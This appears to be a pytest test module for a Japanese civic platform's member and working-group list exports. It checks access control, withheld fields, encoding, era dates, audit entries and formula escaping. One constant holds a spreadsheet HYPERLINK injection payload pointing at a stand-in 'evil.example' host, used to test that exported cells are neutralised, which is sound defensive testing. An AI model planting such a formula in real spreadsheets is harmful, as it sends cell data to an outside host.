"""Lists as files: what somebody may read, no more and no less, safe to open, and kept in the audit."""

import json
from collections.abc import AsyncGenerator
from typing import Any

import pytest

from libs.serving.exports.declared import Column, Export, Exports, UnfitExport
from libs.serving.exports.writing import safe
from services.platform.app import registry
from services.platform.exports import EXPORTS
from tests.exports.files import fetched, sheet, table
from tests.groups.said import does as in_group
from tests.groups.said import organisation_of
from tests.members.said import does
from tests.stage.cities import Cities
from tests.stage.stage import staged

EVIL = '=HYPERLINK("https://evil.example/?"&A1)'
AUDIT = (
    """SELECT person_id, codes FROM tsunagari.audit_entry WHERE action = 'export_list' ORDER BY sequence"""
)


@pytest.fixture(scope="module")
async def cities(cities_template: str) -> AsyncGenerator[Cities]:
    """The two cities, for all stories of this module: none of them changes what another rests on."""
    async with staged(cities_template) as stage:
        yield Cities(stage)


async def test_a_file_holds_what_its_reader_may_see_and_says_what_is_withheld(cities: Cities) -> None:
    as_mori = await table(cities.mori, "members.csv")
    as_ines = await table(cities.ines, "members.csv", language="ja")
    names = [row["団体名"] for row in as_mori]
    assert names[:2] == ["生駒市福祉総務課", "こども食堂ひだまり"]  # 五十音
    assert [row["団体名"] for row in as_ines] == names
    assert {row["会員資格"] for row in as_mori} == {"会員"}
    by_name = {row["団体名"]: row for row in as_ines}
    assert by_name["こども食堂ひだまり"]["業務連絡先"] == "非公開"
    assert by_name["NPO法人つながる生駒"]["業務連絡先"] == "work@example.jp"
    assert by_name["こども食堂ひだまり"]["会員資格"] == "非公開"
    in_english = await table(cities.ines, "members.csv", language="en", kind="NPO", search="ひだまり")
    assert [(row["Name"], row["Kind"], row["Work contact"]) for row in in_english] == [
        ("こども食堂ひだまり", "NPO or community body", "(withheld)")
    ]
    assert await table(cities.oda, "members.csv", search="生駒") == []


async def test_a_file_holds_every_page_of_the_list(cities: Cities, monkeypatch: pytest.MonkeyPatch) -> None:
    members = EXPORTS.get("members")
    assert members is not None
    monkeypatch.setitem(members.__dict__, "page", 2)
    rows = await table(cities.mori, "members.csv")
    assert len({row["ID"] for row in rows}) == len(rows) >= 4


async def test_no_cell_is_a_formula_and_no_number_is_mistaken(cities: Cities) -> None:
    before = (await cities.kato.ask("{ myOrganisation { id version } }")).data["myOrganisation"]
    given = {
        "services": EVIL,
        "workContact": "+81-743-74-1111",
        "corporateNumber": None,
        "area": "０６３０２８８",
    }
    await does(cities.kato, "editOrganisation", id=before["id"], version=before["version"], **given)
    (row,) = await table(cities.kato, "members.csv", kind="COMPANY")
    assert row["活動・支援の内容"] == f"'{EVIL}"
    assert row["業務連絡先"] == "'+81-743-74-1111"
    response = await fetched(cities.kato, "members.xlsx", kind="COMPANY")
    header, cells = sheet(response.content)
    found = {name: cell for (_, name), cell in zip(header, [*cells, *[("", "")] * len(header)], strict=False)}
    texts = [text for kind, text in cells if kind == "inlineStr"]
    assert {EVIL, "+81-743-74-1111", "０６３０２８８"} <= set(texts)
    assert found["団体名"] == ("inlineStr", "まちの電器株式会社")
    assert [kind for kind, text in cells if text.startswith("46")] == ["n"], "the day of admission is a date"
    assert [safe(text) for text in ("=1", "＋1", "\t1", "@a", "-", "a=1", "")] == [
        "'=1",
        "'＋1",
        "'\t1",
        "'@a",
        "'-",
        "a=1",
        "",
    ]


async def test_cp932_and_eras_for_those_who_need_them(cities: Cities) -> None:
    group = await in_group(
        cities.mori, "createWorkingGroup", name="𠮷野〜髙﨑部会", purpose="一人―にしない\n二行目"
    )
    organisation = await organisation_of(cities.ines)
    await in_group(
        cities.mori,
        "giveSeat",
        workingGroupId=group["id"],
        organisationId=organisation,
        fromOn="2027-04-01",
        untilOn="2029-04-01",
    )
    response = await fetched(cities.mori, "working-groups.csv", encoding="cp932")
    assert response.headers["content-type"] == "text/csv; charset=windows-31j"
    assert response.headers["tsunagari-replaced-characters"] == "1"
    (found,) = await table(cities.mori, "working-groups.csv", encoding="cp932")
    assert (found["部会名"], found["目的"], found["席の数"]) == (
        "〓野～髙﨑部会",
        "一人―にしない\n二行目",
        "1",
    )
    (seat,) = await table(cities.ines, "seats.csv", dates="era", workingGroup=group["id"])
    assert (seat["最初の日"], seat["席のなくなる日"], seat["部会長"]) == (
        "令和9年4月1日",
        "令和11年4月1日",
        "いいえ",
    )
    (seat,) = await table(cities.ines, "seats.csv", workingGroup=group["id"], language="en")
    assert (seat["From"], seat["Organisation"]) == ("2027-04-01", "NPO法人つながる生駒")


async def test_it_is_kept_who_took_which_list_and_how_many_rows(cities: Cities) -> None:
    async with cities.stage.sql() as connection:
        before = len(await connection.fetch(AUDIT))
        people = await table(cities.hana, "people.csv")
        entries = (await connection.fetch(AUDIT))[before:]
    assert {row["氏名"] for row in people} >= {"Mori", "Hana", "Ines"}
    assert {row["メール"] for row in people if row["氏名"] == "Ines"} == {"非公開"}
    ((who, codes),) = entries
    me = (await cities.hana.ask("{ me { id } }")).data["me"]["id"]
    assert me == f"person_{who}"
    assert json.loads(codes) == {"list": "people", "format": "csv", "rows": len(people)}


@pytest.mark.parametrize(
    ("path", "parameters", "status", "code"),
    [
        ("secrets.csv", {}, 404, "NOT_FOUND"),
        ("members.pdf", {}, 404, "NOT_FOUND"),
        ("members.csv", {"first": "5"}, 400, "INVALID_INPUT"),
        ("members.csv", {"kind": "CHURCH"}, 400, "GRAPHQL_VALIDATION_FAILED"),
        ("members.csv", {"language": "fr"}, 400, "INVALID_INPUT"),
        ("members.csv", {"search": "a\0b"}, 400, "INVALID_INPUT"),
        ("members.csv", {"kind": ["NPO", "COMPANY"]}, 400, "INVALID_INPUT"),
        ("unmet-needs.csv", {"since": "yesterday"}, 400, "GRAPHQL_VALIDATION_FAILED"),
        ("unmet-needs.csv", {}, 404, "NOT_FOUND"),
    ],
)
async def test_what_cannot_be_a_file_is_refused(
    cities: Cities, path: str, parameters: dict[str, Any], status: int, code: str
) -> None:
    response = await fetched(cities.ines, path, **parameters)
    assert (response.status_code, response.json()["errors"][0]["extensions"]["code"]) == (status, code)
    assert (await fetched(cities.anyone, path, **parameters)).status_code in (401, 404)


async def test_only_people_of_the_platform_take_files(cities: Cities) -> None:
    assert (await fetched(cities.anyone, "members.csv")).status_code == 401
    stranger = await fetched(cities.stranger, "members.csv")
    assert stranger.status_code == 401
    assert b"Ines" not in stranger.content
    assert (await cities.stage.http.post("/exports/members.csv")).status_code == 405
    assert len(await table(cities.mori, "unmet-needs.csv")) == 0
    assert len(await table(cities.mori, "referrals-past-due.csv")) == 0


def test_a_declaration_that_the_schema_cannot_serve_does_not_start() -> None:
    good = (
        "query ($first: Int!, $after: String) { rows: people(first: $first, after: $after) { nodes { id } } }"
    )
    for document, path in (
        (good, "name"),
        (good.replace("id }", "nothing }"), "nothing"),
        (good.replace("rows:", "row:"), "id"),
    ):
        export = Export("people", "人", "People", document, (Column(path, "列", "Column"),))
        with pytest.raises(UnfitExport):
            Exports(export).check(registry().schema)
    EXPORTS.check(registry().schema)
